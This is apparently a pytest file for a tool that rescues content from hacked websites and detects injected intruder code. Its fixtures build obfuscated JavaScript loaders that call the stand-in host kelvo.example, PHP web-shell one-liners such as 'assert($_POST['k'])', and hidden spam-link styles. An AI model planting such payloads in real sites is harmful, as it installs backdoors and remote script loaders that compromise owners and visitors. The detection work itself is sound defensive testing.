"""Ways of intruders as they are found on real hacked sites, written anew: packed scripts, boxes that scripts open, programs."""

import base64
from pathlib import Path
from urllib.parse import quote

import pytest

from skaryna.rescue import rescue, rescue_text
from skaryna.rescue.disguise import undisguised, unspliced
from skaryna.rescue.savedpage import facts_of, read
from skaryna.rescue.savedpage.scanning import suspected
from skaryna.rescue.site import site_of
from tests.rescue.exports.making import BODY, export, item
from tests.rescue.remains import PARAGRAPHS, page

LINK = '<a href="https://kelvo.example/">noska trebi</a>'


def verdicts(html: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(each.kind, each.hosts) for each in suspected(read(html, site_of([facts_of(html)])))]


def packed(code: str) -> str:
    """Pack a script as the common packer does."""
    words = sorted(set("".join(sign if sign.isalnum() else " " for sign in code).split()))
    said, word = "", ""
    for sign in f"{code}\n":
        if sign.isalnum():
            word += sign
            continue
        said += (str(words.index(word)) if word else "") + sign
        word = ""
    text = said.strip("\n").replace("'", "\\'")
    return f"eval(function(p,a,c,k,e,d){{while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}}('{text}',10,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"


CODE = "document.write('<script src=\"https://kelvo.example/x.js\"></script>')"

INNER = f'eval(unescape("{quote(CODE)}"))'


@pytest.mark.parametrize(
    "script",
    [
        f"eval(atob('{base64.b64encode(CODE.encode()).decode()}'))",
        f"eval(unescape('{quote(CODE)}'));",
        f"document.write(unescape('{quote(LINK)}'))",
        "eval(String.fromCharCode(" + ", ".join(str(ord(sign)) for sign in CODE) + "))",
        "eval('" + "".join(f"\\x{ord(sign):02x}" for sign in CODE) + "')",
        packed(CODE),
        f"eval(atob('{base64.b64encode(INNER.encode()).decode()}'))",
    ],
)
def test_a_disguise_is_read_without_being_run_and_convicts_where_it_leads_elsewhere(script: str) -> None:
    assert "kelvo.example" in undisguised(script)
    found = verdicts(page(after=f"<script>{script}</script>"))
    assert ("intruder", ("kelvo.example",)) in found


@pytest.mark.parametrize(
    "script",
    [
        "var key = 'aGVsbG8gd29ybGQ='; load(atob('aGVsbG8gd29ybGQ='));",
        "var s = '\\u0430\\u0431\\u0432\\u0433\\u0434\\u0435';",
        "document.write(unescape('%3Cscript src=\"/js/a.js\"%3E%3C/script%3E'))",
        "var a = 'one' + 'two'; fetch('/api/x').then(r => r.json())",
    ],
)
def test_an_honest_script_that_decodes_something_is_no_intruder_s(script: str) -> None:
    assert [kind for kind, _ in verdicts(page(after=f"<script>{script}</script>")) if kind == "intruder"] == []


def test_texts_in_pieces_are_joined() -> None:
    assert unspliced("'hid' + 'den' + \"x\"") == "'hidden' + \"x\""


def test_a_rule_that_a_script_writes_far_off_the_screen_hides_for_good() -> None:
    script = (
        "<script>function oe(){var m=document.getElementsByTagName('hea'+'d')[0];var r='#Kq7bMm{margin:0 20px;position:fixed;top:-152413px;}';"
        "var i=document.createElement('st'+'yl'+'e');i.type='text/css';if(i.styleSheet){i.styleSheet.cssText=r}m.appendChild(i)}oe();</script>"
    )
    html = page(after=f'<div id="Kq7bMm"><p><a href="https://kelvo.example/">look here for more</a></p></div>{script}')
    assert ("intruder", ("kelvo.example",)) in verdicts(html)


@pytest.mark.parametrize(
    "opens",
    [
        "document.write('<div style=\"position:absolute;left:-4821px\">');",
        "document.write('<d'+'iv st'+'yle=\"display:'+'none\">');",
        "document.writeln(\"<div style='overflow:hidden;height:0;width:0'>\")",
    ],
)
def test_a_box_that_one_script_opens_and_another_closes_is_hidden(opens: str) -> None:
    html = page(
        after=f"<script>{opens}</script><p>{LINK}</p>{LINK}<script>document.write('<\\/div>')</script><p>Words below.</p>"
    )
    assert [kind for kind, hosts in verdicts(html) if hosts == ("kelvo.example",)].count("intruder") >= 1
    draft = rescue_text(html.encode(), "page.html").draft
    assert draft is not None
    assert "noska" not in draft.text


def test_a_program_of_the_server_that_was_sent_along_is_found() -> None:
    said = base64.b64encode(b"file_get_contents('https://kelvo.example/c.php');").decode()
    for program in (
        f"<?php eval(base64_decode('{said}')); ?>",
        "<?php @eval(gzinflate(str_rot13($x))) ?>",
        "<? assert($_POST['k']) ?>",
    ):
        html = page(body="".join(f"<p>{each}</p>" for each in PARAGRAPHS) + program)
        assert ("intruder") in [kind for kind, _ in verdicts(html)], program
    assert verdicts(page(after="<?php the_content(); ?>")) == []


def test_a_script_that_writes_whatever_another_site_sends_is_shown() -> None:
    script = "fetch('https://kelvo.example/back.js').then(r => r.text()).then(t => (document.getElementById('d').innerHTML = t));"
    assert [kind for kind, _ in verdicts(page(after=f"<script>{script}</script>"))] == ["unsure"]


def test_a_program_in_a_post_of_an_export_is_an_intruder_s(tmp_path: Path) -> None:
    said = base64.b64encode(b"document.write('<iframe src=https://kelvo.example/>')").decode()
    (tmp_path / "export.xml").write_text(
        export(item(1, f"{BODY}\n\n<script>eval(atob('{said}'))</script>\n<?php eval(base64_decode('{said}')); ?>"))
    )
    kinds = [
        finding.kind for each in rescue([tmp_path / "export.xml"]) for finding in each.quarantine if finding.signals
    ]
    assert kinds.count("intruder") == 2


def test_a_script_that_a_post_calls_from_an_unknown_site_is_shown_and_an_embed_is_the_house_s(tmp_path: Path) -> None:
    called = "<script src='//js.kelvo.example/stat.js?n=ns1' type='text/javascript'></script>"
    embed = '<script async src="https://platform.twitter.com/widgets.js"></script>'
    (tmp_path / "export.xml").write_text(
        export(item(1, f"{BODY}\n\n{called}"), item(2, f"{BODY}\n\n{embed}", slug="two"))
    )
    found = [finding for each in rescue([tmp_path / "export.xml"]) for finding in each.quarantine]
    assert [each.kind for each in found if "js.kelvo.example" in each.text] == ["unsure"]
    assert [each.kind for each in found if "twitter" in each.text] == ["house"]


@pytest.mark.parametrize(
    "script",
    [
        f"var s=document.createElement('script');s.src=String.fromCharCode({','.join(str(ord(sign)) for sign in 'https://js.kelvo.example/s.js')});document.head.appendChild(s);",
        f"var e=document.createElement('scr'+'ipt');e.setAttribute('src',atob('{base64.b64encode(b'https://js.kelvo.example/s').decode()}'));",
        f"window['eval'](window['atob']('{base64.b64encode(CODE.encode()).decode()}'))",
    ],
)
def test_a_script_that_calls_another_by_an_address_in_disguise_is_an_intruder_s(script: str) -> None:
    assert ("intruder", ("kelvo.example",)) in verdicts(page(after=f"<script>{script}</script>"))


def test_a_script_in_an_address_is_read_like_any_other() -> None:
    inner = f"eval(atob('{base64.b64encode(CODE.encode()).decode()}'))"
    held = base64.b64encode(inner.encode()).decode()
    assert ("intruder", ("kelvo.example",)) in verdicts(
        page(after=f'<script src="data:text/javascript;base64,{held}"></script>')
    )
    harmless = base64.b64encode(b"var lazy = 1; window.addEventListener('load', start);").decode()
    assert verdicts(page(after=f'<script src="data:text/javascript;base64,{harmless}"></script>')) == []


def test_code_in_the_attributes_of_a_picture_is_read_too_and_its_words_are_counted_once() -> None:
    code = f"eval(atob('{base64.b64encode(CODE.encode()).decode()}'))"
    html = page(
        after=f'<img src="x" onerror="{code}" alt="a quay"><button onclick="document.getElementById(1).focus()">Go</button>'
    )
    assert [kind for kind, _ in verdicts(html)] == ["intruder"]
    told = rescue_text(html.encode(), "page.html")
    assert told.tally is not None
    assert told.tally.unaccounted == ""


@pytest.mark.parametrize(
    "style",
    [
        "position:absolute;clip:rect(455px,auto,auto,455px)",
        "color:transparent",
        "color: rgba(0,0,0,0)",
        "transform:scale(0, 0)",
    ],
)
def test_more_styles_that_hide(style: str) -> None:
    assert ("intruder", ("kelvo.example",)) in verdicts(page(after=f'<div style="{style}">{LINK}</div>'))


@pytest.mark.parametrize(
    "script",
    ["jQuery('#k7x').css('display', 'none');", "$(\"#k7x\").css({'display':'none'})", "document.querySelector('#k7x').style.display = 'none'",
     "document.getElementById('k7x').style.left='-5000px'"],
)  # fmt: skip
def test_more_ways_in_which_a_script_hides(script: str) -> None:
    html = page(
        after=f'<div id="k7x">{LINK}, <a href="https://kelvo.example/b">vasta plova mirno</a></div><script>{script}</script>'
    )
    assert ("intruder", ("kelvo.example",)) in verdicts(html)


def test_a_moving_line_whose_style_has_no_size_is_hidden() -> None:
    assert ("intruder", ("kelvo.example",)) in verdicts(
        page(after=f'<marquee style="position:absolute;width:0px">{LINK}</marquee>')
    )
